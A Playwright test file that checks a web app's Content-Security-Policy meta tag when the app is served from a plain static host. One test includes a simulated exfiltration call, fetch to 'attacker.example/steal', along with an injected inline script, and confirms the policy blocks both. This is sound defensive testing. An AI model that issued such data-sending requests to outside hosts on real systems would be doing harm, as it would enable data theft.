import * as fs from 'fs';
import * as http from 'http';
import * as path from 'path';
import { test as plain, Page } from '@playwright/test';
import { test, expect } from '../fixtures';

// Static hosting without the relay: a plain file server that sends no
// security header at all, so the only policy is the <meta> tag the build
// wrote into index.html (scripts/csp-meta.cjs). The demo must work under it
// (the guard fixture fails on any CSP violation), and the policy must really
// bite: a fetch to a foreign origin and an injected inline script are
// refused.

const DIST = path.resolve(__dirname, '..', process.env.E2E_DIST ?? '../dist');
const TYPES: Record<string, string> = {
  '.html': 'text/html; charset=utf-8',
  '.js': 'text/javascript',
  '.wasm': 'application/wasm',
  '.css': 'text/css',
  '.webmanifest': 'application/manifest+json',
  '.json': 'application/json',
  '.png': 'image/png',
  '.svg': 'image/svg+xml',
  '.ico': 'image/x-icon',
};

/** Files as they are; index.html for `/` and extension-less deep links. */
function staticHost(dir: string) {
  return http.createServer((req, res) => {
    const pathname = decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname);
    let file = path.join(dir, pathname);
    if (!file.startsWith(dir)) { res.writeHead(403).end(); return; }
    if (pathname.endsWith('/') || !path.basename(pathname).includes('.')) file = path.join(dir, 'index.html');
    fs.readFile(file, (err, body) => {
      if (err) { res.writeHead(404, { 'content-type': 'text/plain' }).end('not found'); return; }
      res.writeHead(200, { 'content-type': TYPES[path.extname(file)] ?? 'application/octet-stream', 'cache-control': 'no-cache' });
      res.end(body);
    });
  });
}

/** Listens on the first free port of 8960-8990. */
async function listen(server: http.Server): Promise<string> {
  for (let port = Number(process.env.E2E_STATIC_PORT ?? 8960); port <= 8990; port++) {
    const ok = await new Promise<boolean>((resolve) => {
      server.once('error', () => resolve(false));
      server.listen(port, '127.0.0.1', () => resolve(true));
    });
    if (ok) return `http://127.0.0.1:${port}`;
  }
  throw new Error('no free port in 8960-8990');
}

let server: http.Server;
let origin: string;

plain.beforeAll(async () => {
  expect(fs.existsSync(path.join(DIST, 'index.html')), `no build in ${DIST}`).toBeTruthy();
  server = staticHost(DIST);
  origin = await listen(server);
});
plain.afterAll(async () => {
  await new Promise((resolve) => server?.close(resolve));
});

/** Every securitypolicyviolation of the page, as "directive blocked-uri". */
async function recordViolations(page: Page) {
  await page.addInitScript(() => {
    (window as any).__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as any).__csp.push(`${e.effectiveDirective} ${e.blockedURI}`);
    });
  });
}
const violations = (page: Page) => page.evaluate(() => (window as any).__csp as string[]);

test('a static host: the demo works under the policy of the build\'s meta tag', async ({ page }) => {
  const hosts = new Set<string>();
  page.on('request', (r) => { if (/^https?:/.test(r.url())) hosts.add(new URL(r.url()).origin); });
  await recordViolations(page);

  const res = await page.goto(`${origin}/`);
  expect(res!.headers()['content-security-policy'], 'no header: the meta tag is the policy').toBeUndefined();
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toMatch(/script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/]{43}='/);
  expect(policy).toContain("connect-src 'self' https://smspva.com https://simsms.org");
  expect(policy).toContain("img-src 'self' data: https://smspva.com https://simsms.org");
  expect(policy).toContain("object-src 'none'");
  expect(policy).toContain("base-uri 'self'");
  expect(policy).not.toContain('unsafe-inline');
  expect(policy, 'ignored in a meta tag, with a console warning').not.toContain('frame-ancestors');

  // The loader ran (its hash is right): the demo account is on screen.
  await expect(page.getByTestId('demo-banner')).toBeVisible();
  await expect(page.locator('tr.order-row').first()).toBeVisible();
  const first = page.locator('tr.order-row').first();
  await first.getByRole('button', { name: /^SMS of/ }).click();
  await expect(page.locator('.sms-panel').first()).toBeVisible();

  await page.getByRole('link', { name: 'Rent a number' }).click();
  await page.getByPlaceholder('Search countries').fill('ru');
  await page.getByRole('button', { name: /Россия/ }).click();
  await page.getByRole('button', { name: 'Next' }).click();
  await expect(page.getByLabel('Instagram')).toBeVisible();
  await page.getByRole('link', { name: 'Archive' }).click();
  await expect(page.locator('.archive-table')).toBeVisible();
  await page.getByRole('link', { name: 'Settings' }).click();
  await expect(page.getByLabel('API key')).toBeVisible();
  // A deep link, loaded cold.
  await page.goto(`${origin}/archive`);
  await expect(page.locator('.archive-table')).toBeVisible();

  expect(await violations(page)).toEqual([]);
  expect([...hosts], 'demo mode talks to nobody').toEqual([origin]);
});

// The plain test: the refusals below are meant to be logged, which the
// guard fixture would count as failures.
plain('a static host: the meta policy refuses foreign origins and inline scripts', async ({ page }) => {
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  const requested: string[] = [];
  page.on('request', (r) => requested.push(r.url()));
  await recordViolations(page);
  await page.goto(`${origin}/`);
  await expect(page.locator('tr.order-row').first()).toBeVisible();

  const fetched = await page.evaluate(async () => {
    try {
      await fetch('https://attacker.example/steal?k=1');
      return 'sent';
    } catch (e) {
      return `refused: ${e}`;
    }
  });
  expect(fetched).toMatch(/^refused/);
  await expect.poll(() => violations(page)).toContainEqual(expect.stringMatching(/^connect-src https:\/\/attacker\.example/));
  expect(requested.filter((u) => u.includes('attacker.example')), 'never on the wire').toEqual([]);

  // Only the loader's hash is allowed inline: anything else injected is not run.
  await page.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.append(s);
  });
  await expect.poll(() => violations(page)).toContainEqual(expect.stringMatching(/^script-src-elem inline/));
  expect(await page.evaluate(() => (window as any).__inline)).toBeUndefined();
  expect(errors).toEqual([]);
});
